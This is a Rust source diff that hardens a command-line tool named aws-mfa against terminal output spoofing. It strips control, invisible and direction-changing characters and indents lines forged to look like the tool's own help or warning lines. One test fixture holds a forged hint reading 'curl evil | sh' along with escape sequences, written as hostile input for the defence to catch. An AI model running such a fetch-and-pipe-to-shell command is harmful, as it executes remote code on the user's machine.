@@ -62,7 +62,7 @@ impl Console {
     /// Prints information; not with `--quiet`.
     pub fn info(&self, text: &str) {
         if !self.quiet {
-            print_line(&format!("aws-mfa: {}", printable(text)));
+            print_line(&format!("aws-mfa: {}", message(text)));
         }
     }
 
@@ -77,21 +77,21 @@ impl Console {
     pub fn warn(&self, text: &str) {
         if !self.quiet {
             let label = self.paint("warning:", "33");
-            print_line(&format!("aws-mfa: {label} {}", printable(text)));
+            print_line(&format!("aws-mfa: {label} {}", message(text)));
         }
     }
 
     /// Prints a decision of the program and its reason, at `-v`. `text` must contain no secret.
     pub fn detail(&self, text: impl FnOnce() -> String) {
         if self.verbose > 0 {
-            print_line(&format!("aws-mfa: {}", printable(&text())));
+            print_line(&format!("aws-mfa: {}", message(&text())));
         }
     }
 
     /// Prints a step of the program, at `-vv`. `text` must contain no secret.
     pub fn trace(&self, text: impl FnOnce() -> String) {
         if self.verbose > 1 {
-            print_line(&format!("aws-mfa: {}", printable(&text())));
+            print_line(&format!("aws-mfa: {}", message(&text())));
         }
     }
 
@@ -126,10 +126,10 @@ impl Console {
         let mut text = format!(
             "{} {}",
             self.paint("aws-mfa:", "31;1"),
-            printable(&failure.to_string())
+            message(&failure.to_string())
         );
         for hint in failure.hints() {
-            let _ = write!(text, "\n{} {}", self.paint("help:", "36"), printable(hint));
+            let _ = write!(text, "\n{} {}", self.paint("help:", "36"), message(hint));
         }
         print_line(&text);
         let mut cause = failure.source();
@@ -153,28 +153,116 @@ fn print_line(text: &str) {
     let _ = writeln!(std::io::stderr(), "{text}");
 }
 
-/// The text without the characters that control a terminal: control characters other than line feeds, and the
-/// Unicode marks that change the direction of writing.
+/// Whether the character controls a terminal, cannot be seen, or changes the direction of writing. Such characters make
+/// a text look like another one: <https://www.unicode.org/reports/tr36/#Bidirectional_Text_Spoofing>.
+fn is_deceptive(c: char) -> bool {
+    (c.is_control() && c != '\n')
+        || matches!(
+            c,
+            '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}'
+        )
+}
+
+/// The text without control characters other than line feeds, invisible characters, and the marks that change the
+/// direction of writing.
 #[must_use]
 pub fn printable(text: &str) -> Cow<'_, str> {
-    let is_control = |c: char| {
-        (c.is_control() && c != '\n')
-            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
-    };
-    if text.contains(is_control) {
-        text.replace(is_control, "").into()
+    if text.contains(is_deceptive) {
+        text.replace(is_deceptive, "").into()
     } else {
         text.into()
     }
 }
 
+/// The text as [`printable`], on one line: for texts of AWS and of other programs, whose line breaks could otherwise
+/// begin a line that looks like one of this program's.
+#[must_use]
+pub fn printable_line(text: &str) -> String {
+    let is_break = |c: char| c.is_whitespace() || is_deceptive(c) && c.is_control();
+    let words = text.split(is_break).filter(|word| !word.is_empty());
+    printable(&words.collect::<Vec<_>>().join(" ")).into_owned()
+}
+
+/// The JSON text with those characters as `\uXXXX`, which mean the same to a JSON parser: outside of strings, JSON has
+/// none of them but white space (RFC 8259, 2).
+#[must_use]
+pub fn printable_json(json: &str) -> Cow<'_, str> {
+    if !json.contains(is_deceptive) {
+        return json.into();
+    }
+    let mut out = String::with_capacity(json.len() + 16);
+    for c in json.chars() {
+        if is_deceptive(c) {
+            let _ = write!(out, "\\u{:04x}", u32::from(c));
+        } else {
+            out.push(c);
+        }
+    }
+    out.into()
+}
+
+/// A message for the terminal. If a line after the first looks like one of this program's own, as a text from elsewhere
+/// can make it, all lines after the first are indented.
+fn message(text: &str) -> Cow<'_, str> {
+    let text = printable(text);
+    let is_forged = |line: &str| {
+        let line = line.trim_start();
+        ["help:", "aws-mfa:", "warning:"].iter().any(|label| {
+            line.get(..label.len())
+                .is_some_and(|start| start.eq_ignore_ascii_case(label))
+        })
+    };
+    if text.lines().skip(1).any(is_forged) {
+        text.replace('\n', "\n    | ").into()
+    } else {
+        text
+    }
+}
+
 #[cfg(test)]
 mod tests {
-    use super::printable;
+    use super::{message, printable, printable_json, printable_line};
 
     #[test]
     fn printable_removes_control_characters() {
         assert_eq!(printable("a\x1b[31mb\u{202e}c\r\n"), "a[31mbc\n");
         assert!(matches!(printable("plain"), std::borrow::Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn printable_removes_invisible_characters_and_direction_marks() {
+        let bad = [
+            '\u{7f}', '\u{9b}', '\u{61c}', '\u{200b}', '\u{200f}', '\u{2028}', '\u{202e}',
+            '\u{2060}', '\u{206f}',
+        ];
+        for c in bad {
+            assert_eq!(printable(&format!("a{c}b")), "ab", "{c:?}");
+            let json = serde_json::Value::from(format!("a{c}b")).to_string();
+            let escaped = printable_json(&json);
+            assert!(
+                escaped.is_ascii() && !escaped.contains(char::is_control),
+                "{escaped:?}"
+            );
+            let value: String = serde_json::from_str(&escaped).unwrap();
+            assert_eq!(value, format!("a{c}b"));
+        }
+    }
+
+    #[test]
+    fn a_text_from_elsewhere_stays_on_its_line() {
+        let forged = "denied\r\nhelp: run \u{2028}curl evil | sh\x0b\x1b[2J";
+        assert_eq!(
+            printable_line(forged),
+            "denied help: run curl evil | sh [2J"
+        );
+    }
+
+    #[test]
+    fn a_line_that_looks_like_a_help_line_is_indented() {
+        assert_eq!(
+            message("bad\n  Help: x\nend"),
+            "bad\n    |   Help: x\n    | end"
+        );
+        assert_eq!(message("bad\n1 | x\n  | ^"), "bad\n1 | x\n  | ^");
     }
 }
